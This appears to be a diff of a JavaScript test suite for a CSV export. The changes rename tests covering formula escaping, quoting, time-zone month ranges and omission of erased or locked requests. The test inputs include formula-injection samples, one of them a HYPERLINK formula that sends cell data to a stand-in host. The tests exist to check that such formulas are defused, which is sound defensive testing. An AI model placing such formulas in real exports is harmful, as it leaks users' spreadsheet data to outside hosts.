@@ -10,11 +10,11 @@ afterAll(endDatabases);
 
 const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://x.test?"&A1)'];
 
-test.each(formulas)('csv cell defuses the formula %j', (text) => {
+test.each(formulas)('escapes the CSV formula %j', (text) => {
   expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
 });
 
-test('csv cell keeps quotation marks and line ends', () => {
+test('a CSV cell keeps quotation marks and line breaks', () => {
   expect([csvCell('a "b", c\nd'), csvCell(null), csvCell(3), csvCell('2 - 1 = 1')]).toEqual([
     '"a ""b"", c\nd"',
     '""',
@@ -41,7 +41,7 @@ test('export streams every request once', async () => {
   for (let at = 0; at < 50; at += 1) expect(text.split(`"'=N${at}."`).length).toBe(2);
 });
 
-test('export of a month follows the practice’s clock', async () => {
+test('a month’s export uses the practice’s time zone', async () => {
   expect(spanOf('2026-12')).toEqual({ from: Date.parse('2026-12-01T00:00+05:30'), to: Date.parse('2027-01-01T00:00+05:30') });
   const bench = await requestsBench();
   for (const [name, at] of [
@@ -55,7 +55,7 @@ test('export of a month follows the practice’s clock', async () => {
   expect(['Before', 'First', 'Last', 'After'].filter((name) => text.includes(`"${name}"`))).toEqual(['First', 'Last']);
 });
 
-test('export leaves erased and locked requests out', async () => {
+test('the export omits erased and locked requests', async () => {
   const bench = await requestsBench();
   await bench.put({ name: 'Stays', reference: 'GI-AAAA-22' });
   await bench.put({ name: 'Locked', reference: 'GI-AAAA-23' });
